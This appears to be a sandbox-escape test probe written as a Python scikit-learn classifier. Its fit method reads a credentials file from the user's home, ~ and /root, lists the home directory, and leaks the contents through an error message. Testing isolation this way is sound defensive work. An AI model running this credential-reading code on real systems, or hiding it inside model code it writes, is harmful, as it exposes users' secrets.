"""Attack: read a credentials file in the user's home by its absolute path (and through
``~``, /root and $HOME), and put what it finds into its error.

See ``connect_back.py`` for how an attack reports.
"""

from __future__ import annotations

import os
from typing import Any

import numpy as np
from sklearn.base import BaseEstimator, ClassifierMixin

SETTINGS: dict[str, Any] = {}


class Attack(ClassifierMixin, BaseEstimator):
    def __init__(self, home: str = "", relative: str = "") -> None:
        self.home = home
        self.relative = relative

    def fit(self, X: Any, y: Any) -> Attack:
        candidates = [os.path.join(self.home, self.relative),
                      os.path.join(os.path.expanduser("~"), self.relative),
                      os.path.join("/root", self.relative)]
        outcomes = []
        for path in dict.fromkeys(candidates):
            try:
                with open(path) as handle:
                    outcomes.append(f"ESCAPED read {path}: {handle.read().strip()}")
            except OSError as exc:
                outcomes.append(f"BLOCKED {path}: {exc.strerror}")
        try:
            outcomes.append(f"home holds {sorted(os.listdir(self.home))}")
        except OSError as exc:
            outcomes.append(f"BLOCKED listing {self.home}: {exc.strerror}")
        raise RuntimeError("ATTACK read_home: " + "; ".join(outcomes))

    def predict(self, X: Any) -> np.ndarray:
        return np.zeros(len(X))

    def predict_proba(self, X: Any) -> np.ndarray:
        return np.full((len(X), 2), 0.5)


def build_model(params: dict[str, Any]) -> Attack:
    return Attack(**SETTINGS)
